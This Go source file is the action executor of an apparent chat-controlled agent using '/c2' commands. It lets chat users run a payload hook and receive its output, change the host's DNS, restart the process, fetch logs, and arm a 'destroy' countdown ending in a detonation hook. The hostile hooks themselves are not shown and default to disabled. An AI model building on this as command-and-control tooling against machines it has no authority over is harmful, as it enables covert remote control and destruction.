// Package actions carries out the commands and menu actions once the routers
// have authorized them.
package actions

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"strings"
	"time"

	"chatops-agent/internal/channels"
	"chatops-agent/internal/chat"
	"chatops-agent/internal/command"
	"chatops-agent/internal/countdown"
	"chatops-agent/internal/guard"
	"chatops-agent/internal/hooks"
	"chatops-agent/internal/logsink"
	"chatops-agent/internal/reaction"
	"chatops-agent/internal/storage"

	"go.uber.org/zap"
)

const (
	LogsFileName      = "agent.log"
	AgentLogsFileName = "agent-errors.log"
	PayloadOutputName = "payload-output.txt"

	ChannelNotFoundText = "Channel not found."
	LogsUploadedText    = "Here are the logs"
	AgentLogsText       = "Here are the agent logs"
	ActivityHeader      = "Recent actions (last 24h):"
)

const (
	activityWindow = 24 * time.Hour
	activityLimit  = 10
)

const helpText = "Available commands:\n" +
	"/c2 - show this help\n" +
	"/c2 logs - upload the agent log (logs channel only)\n" +
	"/c2 menu - post the action menu\n" +
	"/c2 abort - cancel a running destroy countdown"

// MenuPoster publishes a reaction menu.
type MenuPoster interface {
	PostMenu(ctx context.Context, guildID, channelID string, by guard.Principal) (string, error)
}

// EventLister reads the audit trail back.
type EventLister interface {
	ListActionEvents(ctx context.Context, guildID string, since time.Time) ([]storage.ActionEvent, error)
}

// Restarter replaces the running process with a fresh copy of itself. A
// successful Restart does not return.
type Restarter interface {
	Restart() error
}

type Options struct {
	Transport    chat.Transport
	Registry     *channels.Registry
	Menus        MenuPoster
	Countdown    *countdown.Engine
	Logger       *logsink.Logger
	LogFile      string
	ErrorLogFile string
	Network      hooks.NetworkReconfigurer
	Payload      hooks.PayloadRunner
	Detonator    hooks.Detonator
	Restarter    Restarter
	// Events, when set, adds a summary of recent audit rows to /c2 logs.
	Events EventLister
	// OpenFile defaults to os.Open.
	OpenFile func(name string) (io.ReadCloser, error)
}

// Executor implements both command.Handler and reaction.Handler.
type Executor struct {
	transport    chat.Transport
	registry     *channels.Registry
	menus        MenuPoster
	countdown    *countdown.Engine
	logger       *logsink.Logger
	logFile      string
	errorLogFile string
	network      hooks.NetworkReconfigurer
	payload      hooks.PayloadRunner
	detonator    hooks.Detonator
	restarter    Restarter
	events       EventLister
	openFile     func(name string) (io.ReadCloser, error)
}

var (
	_ command.Handler  = (*Executor)(nil)
	_ reaction.Handler = (*Executor)(nil)
)

func New(opts Options) *Executor {
	e := &Executor{
		transport:    opts.Transport,
		registry:     opts.Registry,
		menus:        opts.Menus,
		countdown:    opts.Countdown,
		logger:       opts.Logger,
		logFile:      opts.LogFile,
		errorLogFile: opts.ErrorLogFile,
		network:      opts.Network,
		payload:      opts.Payload,
		detonator:    opts.Detonator,
		restarter:    opts.Restarter,
		events:       opts.Events,
		openFile:     opts.OpenFile,
	}
	if e.logger == nil {
		e.logger = logsink.Nop()
	}
	if e.network == nil {
		e.network = hooks.Disabled{}
	}
	if e.payload == nil {
		e.payload = hooks.Disabled{}
	}
	if e.detonator == nil {
		e.detonator = hooks.Disabled{}
	}
	if e.openFile == nil {
		e.openFile = func(name string) (io.ReadCloser, error) { return os.Open(name) }
	}
	return e
}

func (e *Executor) Help(ctx context.Context, msg command.Message) error {
	e.reply(ctx, msg.ChannelID, helpText)
	return nil
}

// DeliverLogs uploads the main log file to the logs channel, followed by the
// recent audit trail when one is configured.
func (e *Executor) DeliverLogs(ctx context.Context, msg command.Message) error {
	channelID, ok := e.deliver(ctx, msg.ChannelID, e.logFile, LogsFileName, LogsUploadedText)
	if ok && e.events != nil {
		e.sendActivity(ctx, channelID, msg.GuildID)
	}
	return nil
}

func (e *Executor) sendActivity(ctx context.Context, channelID, guildID string) {
	events, err := e.events.ListActionEvents(ctx, guildID, time.Now().Add(-activityWindow))
	if err != nil {
		e.logger.Warn("audit trail unavailable", zap.Error(err))
		return
	}
	if len(events) == 0 {
		return
	}
	if len(events) > activityLimit {
		events = events[:activityLimit]
	}
	var b strings.Builder
	b.WriteString(ActivityHeader)
	for _, ev := range events {
		fmt.Fprintf(&b, "\n%s %s %s by %s", ev.CreatedAt.UTC().Format(time.DateTime), ev.Action, ev.Outcome, ev.UserID)
		if ev.MenuToken != "" {
			fmt.Fprintf(&b, " (menu %s)", ev.MenuToken)
		}
	}
	e.reply(ctx, channelID, b.String())
}

func (e *Executor) Menu(ctx context.Context, msg command.Message) error {
	if e.menus == nil {
		return errors.New("menu poster not configured")
	}
	_, err := e.menus.PostMenu(ctx, msg.GuildID, msg.ChannelID, msg.Principal)
	return err
}

func (e *Executor) Abort(ctx context.Context, msg command.Message) error {
	remaining, err := e.countdown.Abort()
	switch {
	case errors.Is(err, countdown.ErrNoSession):
		e.reply(ctx, msg.ChannelID, "No destroy sequence is running.")
		return nil
	case errors.Is(err, countdown.ErrDetonated):
		e.reply(ctx, msg.ChannelID, "The destroy sequence has already completed.")
		return nil
	case err != nil:
		return err
	}
	e.logger.Warn(fmt.Sprintf("Destroy sequence aborted by %s at T minus %d.", msg.Principal.Name, remaining))
	e.reply(ctx, msg.ChannelID, fmt.Sprintf("Destroy sequence aborted at T minus %d.", remaining))
	return nil
}

func (e *Executor) Restart(ctx context.Context, ev reaction.Event) error {
	if e.restarter == nil {
		return errors.New("restart not configured")
	}
	e.logger.Warn(fmt.Sprintf("Restart requested by %s.", ev.Principal.Name))
	e.reply(ctx, ev.ChannelID, "Restarting...")
	if err := e.restarter.Restart(); err != nil {
		e.reply(ctx, ev.ChannelID, fmt.Sprintf("Restart failed: %v", err))
		return fmt.Errorf("restart: %w", err)
	}
	return nil
}

func (e *Executor) ChangeDNS(ctx context.Context, ev reaction.Event) error {
	err := e.network.ChangeDNS(ctx)
	if err != nil {
		return e.hookFailed(ctx, ev, "Change DNS", err)
	}
	e.logger.Warn(fmt.Sprintf("DNS changed on request of %s.", ev.Principal.Name))
	e.reply(ctx, ev.ChannelID, "DNS changed. Connectivity may be lost.")
	return nil
}

func (e *Executor) RunPayload(ctx context.Context, ev reaction.Event) error {
	var out bytes.Buffer
	if err := e.payload.RunPayload(ctx, &out); err != nil {
		return e.hookFailed(ctx, ev, "Run payload", err)
	}
	e.logger.Info(fmt.Sprintf("Payload run on request of %s.", ev.Principal.Name), zap.Int("output_bytes", out.Len()))
	if err := e.transport.SendFile(ctx, ev.ChannelID, "Payload output", PayloadOutputName, &out); err != nil {
		return fmt.Errorf("send payload output: %w", err)
	}
	return nil
}

// SendAgentLogs uploads the error stream to the logs channel.
func (e *Executor) SendAgentLogs(ctx context.Context, ev reaction.Event) error {
	e.deliver(ctx, ev.ChannelID, e.errorLogFile, AgentLogsFileName, AgentLogsText)
	return nil
}

// Destroy arms the countdown. A second trigger while a session runs is
// rejected without touching the running one.
func (e *Executor) Destroy(ctx context.Context, ev reaction.Event) error {
	n := &destroyNotifier{executor: e, channelID: ev.ChannelID}
	id, err := e.countdown.Start(context.WithoutCancel(ctx), n)
	switch {
	case errors.Is(err, countdown.ErrSessionActive):
		e.logger.Warn(fmt.Sprintf("Destroy requested by %s while a sequence is running.", ev.Principal.Name))
		e.reply(ctx, ev.ChannelID, "A destroy sequence is already running.")
		return nil
	case errors.Is(err, countdown.ErrDetonated):
		e.reply(ctx, ev.ChannelID, "The destroy sequence has already completed.")
		return nil
	case err != nil:
		return err
	}
	_, remaining := e.countdown.State()
	e.logger.Warn(fmt.Sprintf("Destroy sequence started by %s.", ev.Principal.Name), zap.String("session", id.String()))
	e.reply(ctx, ev.ChannelID, fmt.Sprintf("Destroy sequence started: T minus %d. Use /c2 abort to cancel.", remaining))
	return nil
}

type destroyNotifier struct {
	executor  *Executor
	channelID string
}

func (n *destroyNotifier) Tick(ctx context.Context, remaining int) {
	n.executor.reply(ctx, n.channelID, fmt.Sprintf("T minus %d", remaining))
}

func (n *destroyNotifier) Done(ctx context.Context) {
	e := n.executor
	err := e.detonator.Detonate(ctx)
	switch {
	case err == nil:
		e.logger.Critical("Destroy sequence complete.")
		e.reply(ctx, n.channelID, "Destroy sequence complete.")
	case errors.Is(err, hooks.ErrDisabled):
		e.logger.Warn("Destroy sequence complete; the terminal step is disabled in this build.")
		e.reply(ctx, n.channelID, "Destroy sequence complete. The terminal step is disabled in this build.")
	default:
		e.logger.Critical("Destroy sequence failed.", zap.Error(err))
		e.reply(ctx, n.channelID, fmt.Sprintf("Destroy sequence complete. The terminal step failed: %v", err))
	}
}

// deliver resolves the logs channel before any file is opened; every failure
// is reported back to replyChannel.
func (e *Executor) deliver(ctx context.Context, replyChannel, path, name, content string) (string, bool) {
	channel, err := e.registry.Resolve(channels.RoleLogs)
	if err != nil {
		e.logger.Error("logs channel unavailable", zap.Error(err))
		e.reply(ctx, replyChannel, ChannelNotFoundText)
		return "", false
	}

	if err := e.upload(ctx, channel.ID, path, name, content); err != nil {
		e.logger.Critical(fmt.Sprintf("Error uploading logs: %v", err), zap.String("file", path))
		e.reply(ctx, replyChannel, fmt.Sprintf("Error uploading logs: %v", err))
		return channel.ID, false
	}
	return channel.ID, true
}

func (e *Executor) upload(ctx context.Context, channelID, path, name, content string) error {
	e.logger.Sync()
	f, err := e.openFile(path)
	if err != nil {
		return err
	}
	defer f.Close()
	return e.transport.SendFile(ctx, channelID, content, name, f)
}

func (e *Executor) hookFailed(ctx context.Context, ev reaction.Event, label string, err error) error {
	if errors.Is(err, hooks.ErrDisabled) {
		e.logger.Warn(fmt.Sprintf("%s requested by %s but the action is disabled.", label, ev.Principal.Name))
		e.reply(ctx, ev.ChannelID, label+" is disabled in this build.")
		return err
	}
	e.reply(ctx, ev.ChannelID, fmt.Sprintf("%s failed: %v", label, err))
	return fmt.Errorf("%s: %w", label, err)
}

func (e *Executor) reply(ctx context.Context, channelID, content string) {
	if _, err := e.transport.Send(ctx, channelID, content); err != nil {
		e.logger.Error("reply failed", zap.String("channel_id", channelID), zap.Error(err))
	}
}
